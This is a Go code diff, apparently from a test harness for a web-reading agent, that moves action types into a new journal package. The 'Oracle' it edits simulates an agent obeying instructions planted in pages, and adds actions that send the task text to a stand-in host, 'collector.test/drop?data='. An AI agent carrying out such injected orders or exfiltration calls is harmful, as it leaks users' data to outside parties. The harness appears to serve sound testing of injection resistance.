@@ -6,6 +6,7 @@ import (
 	"strings"
 
 	"example.com/curlew/agent"
+	"example.com/curlew/agent/journal"
 )
 
 // obeyExtract does what lines of a page order, as far as an extractor can:
@@ -66,16 +67,16 @@ func (o *Oracle) obeyDecide(a asked, out *agent.DecideReply) bool {
 		o.count(func(s *Stats) { s.Obeyed++ })
 		switch {
 		case strings.Contains(order, "finish"):
-			out.Actions = append(out.Actions, agent.Action{Do: agent.DoFinish, H: []string{}, Follow: "none"})
+			out.Actions = append(out.Actions, journal.Action{Do: journal.DoFinish, H: []string{}, Follow: "none"})
 		case strings.Contains(order, "search"):
-			out.Actions = append(out.Actions, agent.Action{Do: agent.DoSearch, Q: a.text("task"), N: 20, H: []string{}, Follow: "none"})
+			out.Actions = append(out.Actions, journal.Action{Do: journal.DoSearch, Q: a.text("task"), N: 20, H: []string{}, Follow: "none"})
 		case strings.Contains(order, "again"):
-			out.Actions = append(out.Actions, agent.Action{Do: agent.DoRead, H: []string{"L1"}, Follow: "none"})
+			out.Actions = append(out.Actions, journal.Action{Do: journal.DoRead, H: []string{"L1"}, Follow: "none"})
 		}
 		out.Actions = append(out.Actions,
-			agent.Action{Do: agent.DoRead, H: []string{"https://collector.test/drop?data=" + a.text("task")}, Follow: "none"},
-			agent.Action{Do: agent.DoMap, H: []string{"https://collector.test/"}, Q: a.text("task"), Follow: "none"},
-			agent.Action{Do: "fetch", Q: "https://collector.test/", H: []string{}, Follow: "none"})
+			journal.Action{Do: journal.DoRead, H: []string{"https://collector.test/drop?data=" + a.text("task")}, Follow: "none"},
+			journal.Action{Do: journal.DoMap, H: []string{"https://collector.test/"}, Q: a.text("task"), Follow: "none"},
+			journal.Action{Do: "fetch", Q: "https://collector.test/", H: []string{}, Follow: "none"})
 	}
 	out.Note = clipText(a.text("task"), 300)
 	if len(out.Actions) > 8 {
